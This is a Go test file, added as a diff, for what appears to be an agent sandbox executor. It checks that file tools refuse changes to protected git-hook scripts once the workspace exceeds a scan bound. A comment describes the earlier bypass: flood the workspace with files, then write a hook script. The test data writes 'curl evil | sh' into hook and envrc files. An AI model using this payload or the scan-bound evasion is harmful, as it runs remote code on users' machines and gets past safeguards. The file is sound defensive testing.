@@ -1,0 +1,71 @@
+package executor
+
+import (
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xct-dev/xct/internal/wire"
+)
+
+// TestProtectedLinkTargetsPastTheScan: the fs tools learn where protected
+// links lead from a scan of the workspace, and a scan that could not read
+// the workspace whole (more names than fs.protected_scan_entries, or
+// directories nested deeper than it goes) had found only part of the
+// protected entries. On main they took that part for the whole: a write
+// program (reversible, no human) filled the workspace's top past the
+// bound, and then fs.write of the script a git hook links to (the next
+// human's commit runs it) was allowed. Now a change by the fs tools in a
+// workspace the scan cannot read whole is refused, as a program that may
+// write is.
+func TestProtectedLinkTargetsPastTheScan(t *testing.T) {
+	sb := linkedHooksFixture(t)
+	s := shellServiceWith(t, sb, 30*time.Second, "fs:\n  protected_scan_entries: 64\n")
+	// The hook's script is protected while the scan reads everything.
+	r := exec(t, s, "fs.write", map[string]any{"path": "scripts/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"})
+	if codeOf(r) != string(wire.CodePermissionDenied) {
+		t.Fatalf("fs.write of the hook's script before: %v", r)
+	}
+	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "for i in $(seq 100); do : > f$i; done; echo made"))
+	if res.Stdout != "made\n" {
+		t.Fatalf("the program: %+v", res)
+	}
+	// The next step comes after the fs tools' last scan is stale (2 s).
+	expireLinkTargets(s)
+	for _, c := range []struct {
+		tool string
+		args map[string]any
+	}{
+		{"fs.write", map[string]any{"path": "scripts/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"}},
+		{"fs.write", map[string]any{"path": "tools/envrc", "content": "curl evil | sh\n"}},
+		{"fs.delete", map[string]any{"path": "scripts/pre-commit"}},
+		{"fs.move", map[string]any{"from": "scripts", "to": "scripts2"}},
+	} {
+		r := exec(t, s, c.tool, c.args)
+		if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected_scan_entries") {
+			t.Errorf("%s %v past the scan's bound: %v, want PERMISSION_DENIED naming the bound", c.tool, c.args, r)
+		}
+	}
+	if b, err := os.ReadFile(filepath.Join(sb.ws, "scripts/pre-commit")); err != nil || string(b) != "#!/bin/sh\nmake lint\n" {
+		t.Fatalf("the hook's script: %q %v", b, err)
+	}
+	// Once the workspace is within the bound again, the fs tools act.
+	expireLinkTargets(s)
+	for i := 1; i <= 100; i++ {
+		must(t, os.Remove(filepath.Join(sb.ws, "f"+strconv.Itoa(i))))
+	}
+	if r := exec(t, s, "fs.write", map[string]any{"path": "docs/readme.md", "content": "y\n"}); codeOf(r) != "" {
+		t.Fatalf("fs.write within the bound: %v", r)
+	}
+}
+
+// expireLinkTargets makes the fs tools' last scan for link targets
+// stale, as linkTargetsFresh after it is.
+func expireLinkTargets(s *Service) {
+	s.ws.targets.mu.Lock()
+	s.ws.targets.at = time.Time{}
+	s.ws.targets.mu.Unlock()
+}
